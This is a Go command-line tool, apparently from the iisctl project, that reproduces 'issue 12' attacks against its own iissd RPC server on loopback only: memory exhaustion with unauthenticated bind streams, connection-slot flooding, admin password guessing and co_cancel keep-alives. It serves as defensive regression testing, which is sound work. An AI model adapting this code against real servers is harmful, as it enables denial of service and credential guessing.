// Command iisattack reproduces the attacks of issue 12 against a running
// iissd, bounded in time and on loopback only, and prints what the server
// let through:
//
//	iisattack -target 127.0.0.1:1135 -mode memory    # N unauthenticated binds streaming 4 MiB each
//	iisattack -target 127.0.0.1:1135 -mode slots -user admin   # hold N unauthenticated connections, time admin's Status
//	iisattack -target 127.0.0.1:1135 -mode guess -user admin   # wrong passwords from one address
//	iisattack -target 127.0.0.1:1135 -mode cancel    # keep a connection alive with co_cancel
//
// The admin password comes from IISCTL_PASSWORD. Every mode stops after
// -duration. Attack connections come from 127.0.N.M (every 127/8
// address is local on Linux), the administrator from 127.0.0.1.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/iisctl/iisctl/iiss"
	"github.com/iisctl/iisctl/ndr"
	"github.com/iisctl/iisctl/rpc"
)

// iObjectExporter is the resolver interface every iissd binds
// unauthenticated ([MS-DCOM] 3.1.2.5.1).
var iObjectExporter = rpc.SyntaxID{UUID: ndr.MustGUID("99fcfec4-5260-101b-bbcb-00aa0021347a"), Major: 0}

func main() {
	target := flag.String("target", "127.0.0.1:135", "iissd's activation endpoint (loopback only)")
	mode := flag.String("mode", "memory", "memory | slots | guess | cancel")
	conns := flag.Int("conns", 100, "connections (memory, slots)")
	addrs := flag.Int("addrs", 20, "source addresses 127.0.2.1... (slots)")
	user := flag.String("user", "admin", "account for the administrator's checks and the guesses")
	duration := flag.Duration("duration", 30*time.Second, "bound on the whole run")
	flag.Parse()
	host, _, err := net.SplitHostPort(*target)
	if ip := net.ParseIP(host); err != nil || ip == nil || !ip.IsLoopback() {
		fmt.Fprintln(os.Stderr, "iisattack: -target must be a loopback address:port")
		os.Exit(2)
	}
	raiseNoFile()
	ctx, cancel := context.WithTimeout(context.Background(), *duration)
	defer cancel()
	switch *mode {
	case "memory":
		memory(ctx, *target, *conns)
	case "slots":
		slots(ctx, *target, *conns, *addrs, *user)
	case "guess":
		guess(ctx, *target, *user)
	case "cancel":
		coCancel(ctx, *target)
	default:
		fmt.Fprintln(os.Stderr, "iisattack: unknown -mode", *mode)
		os.Exit(2)
	}
}

func raiseNoFile() {
	var r syscall.Rlimit
	if syscall.Getrlimit(syscall.RLIMIT_NOFILE, &r) == nil {
		r.Cur = r.Max
		syscall.Setrlimit(syscall.RLIMIT_NOFILE, &r)
	}
}

// bindRaw connects from local and binds the resolver without
// authentication; it returns the connection and the answer's type.
func bindRaw(ctx context.Context, target, local string) (net.Conn, rpc.PType, error) {
	d := net.Dialer{Timeout: 5 * time.Second}
	if local != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(local)}
	}
	nc, err := d.DialContext(ctx, "tcp", target)
	if err != nil {
		return nil, 0, err
	}
	bind := &rpc.PDU{Header: rpc.Header{Version: 5, Type: rpc.PTypeBind, Flags: rpc.FlagFirstFrag | rpc.FlagLastFrag, CallID: 1},
		Body: &rpc.Bind{MaxXmitFrag: 5840, MaxRecvFrag: 5840,
			Contexts: []rpc.ContextElement{{Abstract: iObjectExporter, Transfer: []rpc.SyntaxID{rpc.SyntaxNDR20}}}}}
	b, _ := bind.Marshal()
	nc.SetDeadline(time.Now().Add(5 * time.Second))
	defer nc.SetDeadline(time.Time{})
	if _, err := nc.Write(b); err != nil {
		nc.Close()
		return nil, 0, err
	}
	hdr := make([]byte, rpc.HeaderSize)
	if _, err := readFull(nc, hdr); err != nil {
		nc.Close()
		return nil, 0, err
	}
	h, err := rpc.ParseHeader(hdr)
	if err != nil {
		nc.Close()
		return nil, 0, err
	}
	rest := make([]byte, int(h.FragLength)-rpc.HeaderSize)
	if _, err := readFull(nc, rest); err != nil {
		nc.Close()
		return nil, 0, err
	}
	return nc, h.Type, nil
}

func readFull(nc net.Conn, b []byte) (int, error) {
	n := 0
	for n < len(b) {
		m, err := nc.Read(b[n:])
		n += m
		if err != nil {
			return n, err
		}
	}
	return n, nil
}

func frag(flags uint8, n int) []byte {
	p := &rpc.PDU{Header: rpc.Header{Version: 5, Type: rpc.PTypeRequest, Flags: flags, CallID: 2},
		Body: &rpc.Request{AllocHint: 4 << 20, Stub: make([]byte, n)}}
	b, _ := p.Marshal()
	return b
}

// memory: conns unauthenticated binds each stream 4 MiB of a call that
// never ends; prints how much each got to send before the server closed.
func memory(ctx context.Context, target string, conns int) {
	first, middle := frag(rpc.FlagFirstFrag, 4096), frag(0, 4096)
	var sent, closed atomic.Int64
	var wg sync.WaitGroup
	start := time.Now()
	for range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			nc, t, err := bindRaw(ctx, target, "")
			if err != nil || t != rpc.PTypeBindAck {
				return
			}
			defer nc.Close()
			n := 0
			for i := 0; n < 4<<20 && ctx.Err() == nil; i++ {
				b := middle
				if i == 0 {
					b = first
				}
				nc.SetWriteDeadline(time.Now().Add(5 * time.Second))
				if _, err := nc.Write(b); err != nil {
					closed.Add(1)
					break
				}
				n += len(b)
			}
			sent.Add(int64(n))
		}()
	}
	wg.Wait()
	fmt.Printf("memory: %d unauthenticated connections streamed %.1f MiB in %v; %d closed by the server before 4 MiB\n",
		conns, float64(sent.Load())/(1<<20), time.Since(start).Round(time.Millisecond), closed.Load())
	fmt.Println("memory: compare iissd's RSS (ps -o rss) before and after; the server may hold at most a few fragments per connection")
}

// slots holds conns unauthenticated connections from addrs addresses,
// then times the administrator's Status through the real client.
func slots(ctx context.Context, target string, conns, addrs int, user string) {
	before := adminStatus(ctx, target, user)
	var acked, naked, failed atomic.Int64
	var mu sync.Mutex
	var held []net.Conn
	sem := make(chan struct{}, 64)
	var wg sync.WaitGroup
	for i := range conns {
		wg.Add(1)
		sem <- struct{}{}
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			nc, t, err := bindRaw(ctx, target, fmt.Sprintf("127.0.2.%d", i%addrs+1))
			switch {
			case err != nil:
				failed.Add(1)
				return
			case t == rpc.PTypeBindAck:
				acked.Add(1)
			case t == rpc.PTypeBindNak:
				naked.Add(1)
			}
			mu.Lock()
			held = append(held, nc)
			mu.Unlock()
		}()
	}
	wg.Wait()
	during := adminStatus(ctx, target, user)
	fmt.Printf("slots: %d unauthenticated connections from %d addresses: %d bind_ack, %d bind_nak, %d failed\n",
		conns, addrs, acked.Load(), naked.Load(), failed.Load())
	fmt.Printf("slots: administrator's Status: %s before, %s while they are held\n", before, during)
	for _, nc := range held {
		nc.Close()
	}
}

func adminStatus(ctx context.Context, target, user string) string {
	start := time.Now()
	c, err := iiss.Dial(ctx, target, iiss.ClientConfig{Credentials: iiss.Credentials{User: user, Password: os.Getenv("IISCTL_PASSWORD")}})
	if err != nil {
		return fmt.Sprintf("failed (%v) after %v", err, time.Since(start).Round(time.Millisecond))
	}
	defer c.Close()
	if _, err := c.Status(ctx); err != nil {
		return fmt.Sprintf("failed (%v) after %v", err, time.Since(start).Round(time.Millisecond))
	}
	return fmt.Sprintf("ok in %v", time.Since(start).Round(time.Millisecond))
}

// guess tries wrong passwords for user from one address (127.0.3.1)
// until ctx ends.
func guess(ctx context.Context, target, user string) {
	start := time.Now()
	var tries, refused int
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 3, 1)}}
	for ctx.Err() == nil {
		c, err := iiss.Dial(ctx, target, iiss.ClientConfig{Dial: d.DialContext,
			Credentials: iiss.Credentials{User: user, Password: fmt.Sprintf("guess-%d", tries)}})
		tries++
		if err == nil {
			c.Close()
			fmt.Println("guess: a wrong password was accepted!")
			os.Exit(1)
		}
		if !errors.Is(err, context.DeadlineExceeded) {
			refused++
		}
	}
	el := time.Since(start)
	fmt.Printf("guess: %d wrong passwords answered in %v from one address: %.2f answers/s (checked or refused unchecked)\n",
		refused, el.Round(time.Millisecond), float64(refused)/el.Seconds())
}

// coCancel binds unauthenticated and sends co_cancel every second; it
// reports how long the server kept the connection.
func coCancel(ctx context.Context, target string) {
	nc, t, err := bindRaw(ctx, target, "")
	if err != nil || t != rpc.PTypeBindAck {
		fmt.Println("cancel: bind failed:", err, t)
		return
	}
	defer nc.Close()
	p := &rpc.PDU{Header: rpc.Header{Version: 5, Type: rpc.PTypeCoCancel, Flags: rpc.FlagFirstFrag | rpc.FlagLastFrag, CallID: 2}, Body: &rpc.Empty{}}
	b, _ := p.Marshal()
	start := time.Now()
	for ctx.Err() == nil {
		if _, err := nc.Write(b); err != nil {
			break
		}
		nc.SetReadDeadline(time.Now().Add(time.Second))
		if _, err := nc.Read(make([]byte, 1)); err != nil && !errors.Is(err, os.ErrDeadlineExceeded) {
			break
		}
	}
	if ctx.Err() != nil {
		fmt.Printf("cancel: the connection was still open after %v\n", time.Since(start).Round(time.Second))
		return
	}
	fmt.Printf("cancel: the server closed the connection after %v despite a co_cancel every second\n", time.Since(start).Round(time.Second))
}
